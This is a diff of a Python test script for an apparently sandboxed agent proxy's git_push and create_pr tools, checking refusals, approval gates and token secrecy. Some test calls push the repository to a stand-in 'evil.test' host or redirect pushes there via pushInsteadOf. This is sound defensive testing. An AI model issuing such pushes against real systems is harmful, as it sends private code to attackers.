@@ -10,28 +10,19 @@ from the client's side, in the bare repository, at the servers, in the audit log
 gateways' decision logs.  TAP.
 
 Usage: git_tools_mcp.py NUCLEUS"""
-import http.server, json, os, select, shutil, subprocess, sys, tempfile, threading, time
+import http.server, json, os, shutil, subprocess, sys, tempfile, threading, time
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
+import tap  # noqa: E402
+from tap import ok, skip_all, done  # noqa: E402
+from mcp import Client  # noqa: E402
 
 NUCLEUS = os.path.abspath(sys.argv[1])
 if shutil.which("git") is None:
-    print("1..0 # SKIP git is not installed")
-    sys.exit(0)
+    skip_all("git is not installed")
 TMP = tempfile.mkdtemp(prefix="nc-gitmcp-")
 os.chmod(TMP, 0o755)
-n = 0
-failed = 0
+tap.DETAIL_LINES = 30
 TOKEN = "nc-test-forge-token-7f3a"
-
-
-def ok(cond, name, detail=""):
-    global n, failed
-    n += 1
-    print(("ok" if cond else "not ok") + f" {n} - {name}")
-    if not cond:
-        failed += 1
-        for line in str(detail).splitlines()[:30]:
-            print(f"#   {line}")
-    sys.stdout.flush()
 
 
 def git(*args, cwd=None, check=True):
@@ -147,8 +138,7 @@ for _ in range(20):
     except OSError:
         good.shutdown()
 else:
-    print("1..0 # SKIP no common free port on 127.0.0.4 and 127.0.0.5")
-    sys.exit(0)
+    skip_all("no common free port on 127.0.0.4 and 127.0.0.5")
 forge = serve(ForgeHandler, "127.0.0.4", 0)
 FPORT = forge.server_address[1]
 evil_forge = None
@@ -214,51 +204,21 @@ def workspace():
     return ws
 
 
-class Proxy:
+class Proxy(Client):
     def __init__(self, policy, env=None):
         self.ws = workspace()
         self.audit = f"{TMP}/{policy}-{time.monotonic_ns()}-audit.jsonl"
-        self.p = subprocess.Popen([NUCLEUS, "proxy", "--stdio", "--policy", f"{TMP}/{policy}.yaml",
-                                   "--workspace", self.ws, "--audit", self.audit,
-                                   "--approval-wait", "0", "--hosts-file", f"{TMP}/hosts",
-                                   "--allow-network", f"127.0.0.4:{PORT}", "--egress-ports",
-                                   f"{PORT}", "--egress-log", EGLOG],
-                                  stdin=subprocess.PIPE, stdout=subprocess.PIPE,
-                                  stderr=subprocess.PIPE, env=env or BASE_ENV)
-        self.buf = b""
-        self.call("initialize", {"protocolVersion": "2025-11-25", "capabilities": {},
-                                 "clientInfo": {"name": "t", "version": "1"}})
-
-    def call(self, method, params, rid=[0]):
-        rid[0] += 1
-        self.p.stdin.write(json.dumps({"jsonrpc": "2.0", "id": rid[0], "method": method,
-                                       "params": params}).encode() + b"\n")
-        self.p.stdin.flush()
-        deadline = time.time() + 180
-        while True:
-            while b"\n" not in self.buf:
-                r, _, _ = select.select([self.p.stdout], [], [], max(0, deadline - time.time()))
-                if not r:
-                    return None
-                chunk = os.read(self.p.stdout.fileno(), 65536)
-                if not chunk:
-                    return None
-                self.buf += chunk
-            line, self.buf = self.buf.split(b"\n", 1)
-            m = json.loads(line)
-            if m.get("id") == rid[0]:
-                return m
-
-    def tool(self, name, args):
-        r = self.call("tools/call", {"name": name, "arguments": args})
-        return (r or {}).get("result", {})
+        super().__init__([NUCLEUS, "proxy", "--stdio", "--policy", f"{TMP}/{policy}.yaml",
+                          "--workspace", self.ws, "--audit", self.audit,
+                          "--approval-wait", "0", "--hosts-file", f"{TMP}/hosts",
+                          "--allow-network", f"127.0.0.4:{PORT}", "--egress-ports",
+                          f"{PORT}", "--egress-log", EGLOG], env=env or BASE_ENV, timeout=180)
+        self.initialize()
 
     def close(self):
-        self.p.stdin.close()
-        self.p.wait(timeout=60)
-        err = self.p.stderr.read().decode(errors="replace")
+        super().close(60)
         with open(self.audit) as f:
-            return [json.loads(x) for x in f if x.strip()], err
+            return [json.loads(x) for x in f if x.strip()], self.err
 
 
 def err_kind(res):
@@ -276,7 +236,7 @@ def bare_ref(d, name, ref):
 
 
 px = Proxy("push")
-r = px.call("tools/list", {})
+r = px.request("tools/list", {})
 tools = {t["name"]: t for t in r["result"]["tools"]} if r and "result" in r else {}
 ok("git_push" in tools and "create_pr" in tools and
    tools["git_push"]["inputSchema"]["required"] == ["remote"] and
@@ -286,7 +246,7 @@ ok("git_push" in tools and "create_pr" in tools and
 
 # -- git_push to the allowed remote --------------------------------------------------------
 feature = git("rev-parse", "feature", cwd=px.ws)
-res = px.tool("git_push", {"remote": REMOTE, "branch": "feature"})
+res = px.tool_result("git_push", {"remote": REMOTE, "branch": "feature"})
 ok(not res.get("isError") and bare_ref("srv4", "allowed", "refs/heads/feature") == feature,
    "git_push of a named branch to the allowed remote: the commit arrived in the bare repository",
    json.dumps(res)[:1500])
@@ -294,7 +254,7 @@ ok("untrusted" in text(res) and res.get("structuredContent", {}).get("refspec") 
    "refs/heads/feature:refs/heads/feature", "the result names the refspec and marks the "
    "remote's words untrusted", res)
 main = git("rev-parse", "main", cwd=px.ws)
-res = px.tool("git_push", {"remote": REMOTE})
+res = px.tool_result("git_push", {"remote": REMOTE})
 ok(not res.get("isError") and bare_ref("srv4", "allowed", "refs/heads/main") == main,
    "git_push without a branch pushes the current branch (main)", json.dumps(res)[:1500])
 ok(any(m == "POST" and "git-receive-pack" in p for m, p in good.requests),
@@ -302,33 +262,33 @@ ok(any(m == "POST" and "git-receive-pack" in p for m, p in good.requests),
    good.requests)
 
 # -- refusals by policy --------------------------------------------------------------------
-res = px.tool("git_push", {"remote": f"http://git.test:{PORT}/other.git", "branch": "feature"})
+res = px.tool_result("git_push", {"remote": f"http://git.test:{PORT}/other.git", "branch": "feature"})
 ok(err_kind(res) == "remote_not_allowed" and bare_ref("srv4", "other", "refs/heads/feature") is None,
    "a remote outside git.push_remotes is refused by the policy (remote_not_allowed), nothing "
    "pushed", res)
-res = px.tool("git_push", {"remote": f"http://git.test:{PORT}/allowed.git/../other.git"})
+res = px.tool_result("git_push", {"remote": f"http://git.test:{PORT}/allowed.git/../other.git"})
 ok(err_kind(res) == "validation_error", "a remote URL with '..' is refused at validation", res)
-res = px.tool("git_push", {"remote": f"http://u:p@git.test:{PORT}/allowed.git"})
+res = px.tool_result("git_push", {"remote": f"http://u:p@git.test:{PORT}/allowed.git"})
 ok(err_kind(res) == "validation_error", "a remote URL with userinfo is refused at validation", res)
-res = px.tool("git_push", {"remote": REMOTE, "branch": "--force"})
+res = px.tool_result("git_push", {"remote": REMOTE, "branch": "--force"})
 ok(err_kind(res) == "validation_error", "a branch that looks like an option is refused", res)
-res = px.tool("git_push", {"remote": REMOTE, "branch": "+feature"})
+res = px.tool_result("git_push", {"remote": REMOTE, "branch": "+feature"})
 ok(err_kind(res) == "validation_error", "a force refspec ('+branch') is refused", res)
-res = px.tool("git_push", {"remote": f"http://evil.test:{PORT}/evil.git", "branch": "feature"})
+res = px.tool_result("git_push", {"remote": f"http://evil.test:{PORT}/evil.git", "branch": "feature"})
 ok(err_kind(res) == "host_not_allowed" and not evil.requests,
    "a remote in git.push_remotes whose host is outside network.allow is refused "
    "(host_not_allowed) before anything runs", res)
 
 # -- refusals by the gateway ---------------------------------------------------------------
-res = px.tool("git_push", {"remote": f"http://rebind.test:{PORT}/evil.git", "branch": "feature"})
+res = px.tool_result("git_push", {"remote": f"http://rebind.test:{PORT}/evil.git", "branch": "feature"})
 with open(EGLOG) as f:
     egl = [json.loads(x) for x in f if x.strip()]
 ok(res.get("isError") and not evil.requests and bare_ref("srv5", "evil", "refs/heads/feature") is None
    and any(d.get("host") == "rebind.test" and d.get("reason") == "address_refused" for d in egl),
    "an allowed name resolving to an address no entry admits: the pod's gateway refuses the "
    "push (address_refused), nothing arrives", (res, egl[-3:]))
-res = px.tool("run", {"argv": ["git", "push", f"http://evil.test:{PORT}/evil.git",
-                               "feature:feature"]})
+res = px.tool_result("run", {"argv": ["git", "push", f"http://evil.test:{PORT}/evil.git",
+                                      "feature:feature"]})
 with open(EGLOG) as f:
     egl = [json.loads(x) for x in f if x.strip()]
 ok(not evil.requests and bare_ref("srv5", "evil", "refs/heads/feature") is None and
@@ -338,7 +298,7 @@ ok(not evil.requests and bare_ref("srv5", "evil", "refs/heads/feature") is None 
 
 # -- the repository's configuration cannot redirect the push -------------------------------
 git("config", f"url.http://evil.test:{PORT}/evil.git.pushInsteadOf", REMOTE, cwd=px.ws)
-res = px.tool("git_push", {"remote": REMOTE, "branch": "feature"})
+res = px.tool_result("git_push", {"remote": REMOTE, "branch": "feature"})
 ok(err_kind(res) == "remote_rewritten" and not evil.requests,
    "a pushInsteadOf in the repository's configuration makes git_push refuse (remote_rewritten)",
    res)
@@ -348,15 +308,15 @@ with open(hook, "w") as f:
     f.write(f"#!/bin/sh\ntouch {px.ws}/hook-ran\nexit 1\n")
 os.chmod(hook, 0o755)
 git("commit", "-q", "--allow-empty", "-m", "more", cwd=px.ws)
-res = px.tool("git_push", {"remote": REMOTE})
+res = px.tool_result("git_push", {"remote": REMOTE})
 ok(not res.get("isError") and not os.path.exists(f"{px.ws}/hook-ran") and
    bare_ref("srv4", "allowed", "refs/heads/main") == git("rev-parse", "main", cwd=px.ws),
    "the repository's pre-push hook does not run", res)
 
 # -- create_pr -----------------------------------------------------------------------------
 body = "Fixes the thing.\n\n- one\n- two \u2713"
-res = px.tool("create_pr", {"title": "Fix the thing", "head": "feature", "base": "main",
-                            "body": body})
+res = px.tool_result("create_pr", {"title": "Fix the thing", "head": "feature",
+                                   "base": "main", "body": body})
 got = forge.requests[-1] if forge.requests else {}
 payload = json.loads(got.get("body") or b"{}")
 ok(not res.get("isError") and res.get("structuredContent", {}).get("number") == 7 and
@@ -367,31 +327,31 @@ ok(got.get("path") == "/repos/o/r/pulls" and payload == {"title": "Fix the thing
    "the forge received exactly the GitHub-style JSON (title, head, base, body, draft)", got)
 ok(not any(k.lower() == "authorization" for k in got.get("headers", {})),
    "the operator's token is not sent over plain http", got.get("headers"))
-res = px.tool("create_pr", {"title": "x\ny", "head": "feature", "base": "main"})
+res = px.tool_result("create_pr", {"title": "x\ny", "head": "feature", "base": "main"})
 ok(err_kind(res) == "validation_error", "a title with a line break is refused", res)
-res = px.tool("create_pr", {"title": "t", "head": "a..b", "base": "main"})
+res = px.tool_result("create_pr", {"title": "t", "head": "a..b", "base": "main"})
 ok(err_kind(res) == "validation_error", "a head with '..' is refused", res)
-res = px.tool("create_pr", {"title": "t", "head": "feature", "base": "main", "extra": 1})
+res = px.tool_result("create_pr", {"title": "t", "head": "feature", "base": "main", "extra": 1})
 ok(err_kind(res) == "validation_error", "unknown arguments are refused", res)
 
 # -- the token never reaches a pod ---------------------------------------------------------
-res = px.tool("run", {"argv": ["env"]})
+res = px.tool_result("run", {"argv": ["env"]})
 ok(not res.get("isError") and TOKEN not in json.dumps(res) and "HOME=" in text(res),
    "the forge token is not in a pod's environment", text(res)[:800])
 
 # -- exposure: private data and untrusted content seen -> approval --------------------------
-res = px.tool("read", {"path": "ISSUE.md"})
+res = px.tool_result("read", {"path": "ISSUE.md"})
 ok(not res.get("isError"), "read ISSUE.md (paths.untrusted) and README (private)", res)
-px.tool("read", {"path": "README"})
+px.tool_result("read", {"path": "README"})
 before = bare_ref("srv4", "allowed", "refs/heads/feature")
 git("checkout", "-q", "feature", cwd=px.ws)
 git("commit", "-q", "--allow-empty", "-m", "after exposure", cwd=px.ws)
-res = px.tool("git_push", {"remote": REMOTE, "branch": "feature"})
+res = px.tool_result("git_push", {"remote": REMOTE, "branch": "feature"})
 ok(err_kind(res) == "approval_required" and "session_exposure" in text(res) and
    bare_ref("srv4", "allowed", "refs/heads/feature") == before,
    "after private data and untrusted content, git_push needs approval; nothing pushed", res)
 n_forge = len(forge.requests)
-res = px.tool("create_pr", {"title": "t", "head": "feature", "base": "main"})
+res = px.tool_result("create_pr", {"title": "t", "head": "feature", "base": "main"})
 ok(err_kind(res) == "approval_required" and len(forge.requests) == n_forge,
    "and so does create_pr; the forge got nothing", res)
 
@@ -415,23 +375,23 @@ ok(TOKEN not in raw and TOKEN not in stderr, "the token appears in no audit reco
 
 # -- a forge on a forbidden host, a forge refusing ------------------------------------------
 px = Proxy("push", dict(BASE_ENV, NUCLEUS_FORGE_API_URL=f"http://evil.test:{FPORT}/repos/o/r/pulls"))
-res = px.tool("create_pr", {"title": "t", "head": "feature", "base": "main"})
+res = px.tool_result("create_pr", {"title": "t", "head": "feature", "base": "main"})
 ok(err_kind(res) == "host_not_allowed" and (evil_forge is None or not evil_forge.requests),
    "create_pr to a forge outside network.allow is refused (host_not_allowed), nothing sent", res)
 px.close()
 px = Proxy("push", dict(BASE_ENV, NUCLEUS_FORGE_API_URL=f"http://forge.test:{FPORT}/repos/o/refuse/pulls"))
-res = px.tool("create_pr", {"title": "t", "head": "feature", "base": "main"})
+res = px.tool_result("create_pr", {"title": "t", "head": "feature", "base": "main"})
 ok(err_kind(res) == "forge_error" and "422" in text(res) and "untrusted" in text(res),
    "a forge refusal is a forge_error naming the status, its text marked untrusted", res)
 px.close()
 
 # -- capability never ----------------------------------------------------------------------
 px = Proxy("nopush")
-r = px.call("tools/list", {})
+r = px.request("tools/list", {})
 names = [t["name"] for t in r["result"]["tools"]] if r and "result" in r else []
 ok("git_push" not in names and "create_pr" not in names,
    "with git_push and create_pr never the tools are not offered", names)
-res = px.tool("git_push", {"remote": REMOTE})
+res = px.tool_result("git_push", {"remote": REMOTE})
 ok(err_kind(res) == "capability_never", "and a call is refused (capability_never)", res)
 px.close()
 
@@ -441,5 +401,4 @@ for s in (good, evil, forge, evil_forge):
     if s is not None:
         s.shutdown()
 shutil.rmtree(TMP, ignore_errors=True)
-print(f"1..{n}")
-sys.exit(1 if failed else 0)
+done()
